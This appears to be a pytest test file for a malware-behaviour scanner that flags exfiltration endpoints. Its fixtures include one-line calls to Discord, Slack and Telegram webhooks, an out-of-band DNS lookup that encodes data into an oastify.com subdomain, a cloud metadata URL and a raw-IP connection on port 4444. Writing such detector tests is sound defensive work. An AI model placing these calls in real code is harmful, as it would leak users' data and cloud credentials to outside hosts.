from __future__ import annotations

import pytest

from scanner.behaviour.model import Capability
from scanner.behaviour.signals.endpoints import endpoint_details

from ..snippets import details, found

EXFIL = Capability.EXFIL_ENDPOINT


@pytest.mark.parametrize(
    ("source", "detail"),
    [
        ("post('https://discord.com/api/webhooks/1/abc');", "webhook:discord.com"),
        ("post('https://discordapp.com/api/webhooks/1/abc');", "webhook:discordapp.com"),
        ("const u = 'https://api.telegram.org/bot1:x/sendMessage';", "webhook:api.telegram.org"),
        ("const u = 'https://hooks.slack.com/services/T/B/x';", "webhook:hooks.slack.com"),
        ("const u = 'https://webhook.site/0000';", "webhook:webhook.site"),
        ("const u = 'https://eo1.m.pipedream.net';", "webhook:pipedream.net"),
        ("dns.resolve(`${data}.x1.oastify.com`);", "oob:oastify.com"),
        ("const h = 'abc.oast.fun';", "oob:oast.fun"),
        ("const h = 'x.burpcollaborator.net';", "oob:burpcollaborator.net"),
        ("const u = 'https://pastebin.com/raw/x';", "paste:pastebin.com"),
        ("const u = 'https://abcd.ngrok-free.app/x';", "tunnel:ngrok-free.app"),
        ("get('http://169.254.169.254/latest/meta-data/');", "cloud-metadata:169.254.169.254"),
        ("post('http://45.77.10.20:8080/c');", "ip:45.77.10.20"),
        ("connect('45.77.10.20:4444');", "ip:45.77.10.20"),
    ],
)
def test_endpoints(source: str, detail: str) -> None:
    assert detail in details(source, EXFIL)


@pytest.mark.parametrize(
    "source",
    [
        "// see https://webhook.site/docs",
        "const a = 'http://127.0.0.1:8080'; const b = 'http://0.0.0.0:3000';",
        "const c = 'http://192.168.1.1/'; const d = 'http://10.0.0.2/';",
        "const e = 'http://192.0.2.10/'; const f = 'http://203.0.113.5/';",
        "const g = 'https://discord.com/developers/docs';",
        "const h = 'mywebhook.site'; const i = 'notoastify.com';",
        "const v = '1.2.3.4';",
    ],
)
def test_comments_local_and_documentation_addresses_and_lookalikes_are_not_endpoints(
    source: str,
) -> None:
    assert not found(source, EXFIL)


def test_endpoint_details_are_host_level() -> None:
    assert endpoint_details("https://a.b.webhook.site/x?y=1") == ["webhook:webhook.site"]


def test_long_label_runs_and_subdomains() -> None:
    # (The host regex has no repeated label group, so such strings cannot make it backtrack.)
    assert endpoint_details("a." * 2000 + "x") == []
    assert endpoint_details("a." * 50 + "oast.fun") == ["oob:oast.fun"]
